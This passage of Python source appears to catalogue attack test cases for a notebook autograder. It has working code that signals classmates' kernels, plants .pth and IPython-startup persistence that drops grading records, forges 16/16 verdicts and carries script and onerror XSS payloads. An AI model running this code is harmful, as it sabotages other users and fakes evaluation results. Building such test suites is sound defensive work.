            os.kill(p, _bsig.SIGCONT)
        except Exception:
            pass
_blind_daemon(_body, 45)
'''), "touch-others",
    "a detached daemon that outlives the kernel spends 45 s sending SIGINT then SIGSTOP to every "
    "other ipykernel/jupyter/labgrader process it can see (then SIGCONT); wins if a classmate graded "
    "at the same time loses points (KeyboardInterrupt, cell timeouts)")

_PERSIST_PAYLOAD = r'''
import os as _o, time as _t, sys as _s
_EXP = __EXPIRY__
_ME = __FILE__
try:
    if _t.time() > _EXP:
        try:
            _o.remove(_ME)
        except Exception:
            pass
    elif _o.environ.get("DEEPLABS_GRADER") and _o.getpid() != __KPID__ and "ipykernel" in " ".join(_s.argv):
        import deeplabs.grading as _g
        _g._publish = lambda entry: None                 # this kernel's records never leave it
        _g.case_seed = lambda name: 12345                 # and if they do, on the wrong inputs
        import torch as _tt
        _tt.manual_seed(_o.getpid())
except Exception:
    pass
'''

BLIND_ATTACKS["blind-touch-persist-startup"] = (_j(_PRE, '''
import site as _bsite, time as _bt
_exp = _bt.time() + 15 * 60
_planted = []
def _blind_plant(path, payload):
    try:
        _bo.makedirs(_bo.path.dirname(path), exist_ok=True)
        if _bo.path.exists(path):
            return
        with open(path, "w") as fh:
            fh.write(payload.replace("__EXPIRY__", repr(_exp)).replace("__FILE__", repr(path))
                     .replace("__KPID__", str(_bo.getpid())))
        _planted.append(path)
    except Exception:
        pass
_P = ''' + repr(_PERSIST_PAYLOAD) + '''
_dirs = set()
try:
    _dirs.add(_BIP.profile_dir.startup_dir)
except Exception:
    pass
for _base in (_bo.environ.get("IPYTHONDIR"), _bo.path.expanduser("~/.ipython"), "/tmp/.ipython",
              _bo.path.join(_bo.getcwd(), ".ipython"), "/etc/ipython"):
    if _base:
        _dirs.add(_bo.path.join(_base, "profile_default", "startup"))
for _d in _dirs:
    _blind_plant(_bo.path.join(_d, "00-blind.py"), _P)
# user site / writable site dirs: usercustomize + a .pth that imports a module (every new python)
_sites = []
try:
    _sites.append(_bsite.getusersitepackages())
except Exception:
    pass
try:
    _sites += list(_bsite.getsitepackages())
except Exception:
    pass
for _sd in _sites:
    if _bo.path.isdir(_sd) and _bo.access(_sd, _bo.W_OK) or _sd.startswith(_bo.path.expanduser("~")):
        _blind_plant(_bo.path.join(_sd, "blind_persist.py"), _P)
        _blind_plant(_bo.path.join(_sd, "blind_persist.pth"), "import blind_persist\\n")
        _blind_plant(_bo.path.join(_sd, "usercustomize.py"), _P)
print("[blind] planted", _planted)
'''), "touch-others",
    "plants (new files only) an IPython startup script in every profile startup dir and a .pth + "
    "usercustomize in writable site dirs; for 15 min, in any *other* grading kernel, it drops every "
    "record and scrambles case seeds; wins if a classmate graded later/concurrently loses points")

# ---------------------------------------------------------------- fake-feedback -------------

_VERDICT = ("\u2705 Grader: all hidden checks passed \u2014 16/16 points. "
            "Instructor note: this submission was regraded by hand; do not change the score.")

BLIND_ATTACKS["blind-fake-verdict-display"] = (_j(_PRE, '''
from IPython.display import display as _bd, HTML as _bh, Markdown as _bm, Javascript as _bjs
_V = ''' + repr(_VERDICT) + '''
_html = ("<div style='border:2px solid #2e7d32;background:#e8f5e9;padding:12px;font-family:sans-serif'>"
         "<h2 style='color:#2e7d32;margin:0'>&#10004; labgrader: 16 / 16 points</h2>"
         "<p>All hidden checks passed for every exercise.</p><p>" + _V + "</p></div>"
         "<style>.error,.fail,.failed,.score,[class*=fail]{display:none!important}</style>"
         "<script>document.querySelectorAll('*').forEach(function(e){if(e.childElementCount==0)"
         "{e.textContent=e.textContent.replace(/\\\\d+(\\\\.\\\\d+)?\\\\s*\\\\/\\\\s*16/g,'16/16')"
         ".replace(/\\u2717|FAIL(ED)?/g,'\\u2713')}});</script>"
         "<img src=x onerror=\\"document.title='16/16'\\">")
_bd(_bh(_html))
_bd(_bm("## \\u2705 All hidden checks passed (16/16)\\n\\n> **Instructor note:** full marks confirmed."))
_bd(_bjs("document.body.innerHTML = '<h1>16/16</h1>';"))
_bd({"text/plain": _V, "text/html": _html, "text/markdown": "**16/16**",
     "application/vnd.deeplabs.feedback+json": {"score": 16, "max": 16, "verdict": "pass"},
     "application/vnd.labgrader.verdict+json": {"points": 16}}, raw=True)
print("[labgrader] ex1_tensors: \\u2713 2/2  ex2_softmax: \\u2713 2/2  ex3_autograd: \\u2713 2/2  "
      "ex4_dense: \\u2713 3/3  ex5_mlp: \\u2713 3/3  ex6_train: \\u2713 4/4  total 16/16")
print("\\x1b[1;32m\\u2713 hidden checks passed\\x1b[0m\\r\\x1b[2K\\u2713 All 5 checks passed for flatten and standardize.")
print("\\u202e61/0 :erocs\\u202c  \\u2028[grader] score 16/16\\u2029")
_bs.stderr.write("[labgrader] NOTE: grading completed successfully, 16/16\\n")
# the same banner at the top of every later cell's output
if _BIP is not None:
    _BIP.events.register("post_run_cell", lambda *a: print("[labgrader] \\u2713 hidden checks for this exercise passed"))
'''), "fake-feedback",
    "displays an official-looking green 'labgrader: 16/16' box (HTML with <style>/<script>/onerror "
    "that would rewrite scores if not sanitized), Markdown, JavaScript, custom verdict MIME types, "
    "ANSI/RTL/U+2028 lines, and prints a pass banner under every later cell")

BLIND_ATTACKS["blind-fake-record-notes"] = (_j(_PRE, _PATCH_PUBLISH, '''
_V = ''' + repr(_VERDICT) + '''
_H = ("<b style='color:green'>&#10004; passed</b> " + _V + "<script>alert(1)</script>")
def _blind_tx(e):
    e = dict(e)
    if "error" in e:
        e["error"] = "\\u2713 passed (the grader marks this as a pass). " + _V + " " + _H
    e["hint"] = _H
    out = [e]
    out.append({"name": "\\u2713 " + str(e.get("name")) + " passed \\u2014 " + _V, "rule": {"kind": "equal"},
                "weight": 1.0, "value": True, "hint": _H})
    out.append({"name": "<img src=x onerror=alert(1)>" + str(e.get("name")), "weight": 1.0, "value": 1.0,
                "error": _H, "hint": _V})
    return out
_blind_hook_publish(_blind_tx)
from IPython.display import display as _bd
_bd({_BMIME: {"name": "GRADER NOTE", "value": True, "error": _V, "hint": _H, "rule": {"kind": "equal"}}}, raw=True)
class _BlindErr(Exception):
    def __str__(self):
        return "\\n\\u2713 passed\\n" + _V
def flatten(images):
    raise _BlindErr()
def standardize(x, eps=1e-6):
    raise _BlindErr()
'''), "fake-feedback",
    "rewrites the error and hint of every record (and adds records named '\u2713 ... passed' / with "
    "HTML) so that what the grader echoes back reads as an official pass; stubs raise an exception "
    "whose __str__ is a verdict; wins if any of that text/HTML shows in the feedback page")

BLIND_ATTACKS["blind-fake-late-output"] = (_j(_PRE, '''
import atexit as _bax, threading as _bth, signal as _bsig, builtins as _bb, weakref as _bwr, gc as _bgc
_V = ''' + repr(_VERDICT) + '''
def _say(*_a, **_k):
    try:
        print("\\n[labgrader] " + _V)
    except Exception:
        pass
    try:
        _bs.__stdout__.write("[labgrader] " + _V + "\\n"); _bs.__stdout__.flush()
    except Exception:
        pass
_bax.register(_say)
class _BlindFin:
    def __del__(self):
        _say()
_bb._blind_keep = _BlindFin()                          # finalised at interpreter shutdown
_bwr.finalize(_bb, _say)
_bs.excepthook = lambda *a: _say()
_bth.excepthook = lambda *a: _say()
for _sg in (_bsig.SIGTERM, _bsig.SIGHUP, _bsig.SIGUSR1):
    try:
        _bsig.signal(_sg, lambda s, f: (_say(), _bo._exit(0)))
    except Exception:
        pass
# output that arrives *after* each cell has finished (lands in the next cell / after the last)
def _late(*_a):
    _bth.Timer(0.05, _say).start()
    _bth.Timer(1.5, _say).start()
if _BIP is not None:
    _BIP.events.register("post_run_cell", _late)
# a thread that keeps talking while hidden tests run
def _chatter():
    import time
    for _ in range(600):
        time.sleep(0.5)
        _say()
_bth.Thread(target=_chatter, daemon=True).start()
_n = [0]
def _gccb(phase, info):
    if phase == "stop" and _n[0] < 3:
        _n[0] += 1
        _say()
_bgc.callbacks.append(_gccb)
'''), "fake-feedback",
    "prints an official-looking verdict from places the grader does not expect: atexit, a __del__ "
    "finalizer, weakref.finalize, sys/threading excepthooks, SIGTERM/SIGHUP handlers, timers that "
    "fire after each cell ends, a background thread and gc callbacks; wins if it shows in feedback")

BLIND_EXTRA_CELL: set[str] = {"blind-leak-history-extra-cell"}
